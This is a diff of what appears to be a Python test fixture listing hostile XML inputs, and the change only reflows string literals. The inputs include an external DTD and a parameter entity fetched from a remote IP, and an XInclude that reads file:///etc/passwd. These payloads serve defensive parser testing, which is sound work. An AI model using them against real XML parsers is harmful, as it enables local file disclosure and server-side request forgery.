@@ -27,10 +27,12 @@ HOSTILE = {
                         f"{GOOD_HEAD}<title>&x;</title></udhr>\n"),
     "network-dtd": ('<?xml version="1.0"?>\n<!DOCTYPE udhr SYSTEM "http://203.0.113.9/udhr.dtd">\n'
                     f"{GOOD_HEAD}<title>T</title></udhr>\n"),
-    "parameter-entity": ('<?xml version="1.0"?>\n<!DOCTYPE udhr [<!ENTITY % p SYSTEM "http://203.0.113.9/p.ent"> %p;]>\n'
+    "parameter-entity": ('<?xml version="1.0"?>\n'
+                         '<!DOCTYPE udhr [<!ENTITY % p SYSTEM "http://203.0.113.9/p.ent"> %p;]>\n'
                          f"{GOOD_HEAD}<title>T</title></udhr>\n"),
     "xinclude": (f'<?xml version="1.0"?>\n{GOOD_HEAD}<title>T</title>'
-                 '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></udhr>\n'),
+                 '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
+                 '</udhr>\n'),
 }
 
 
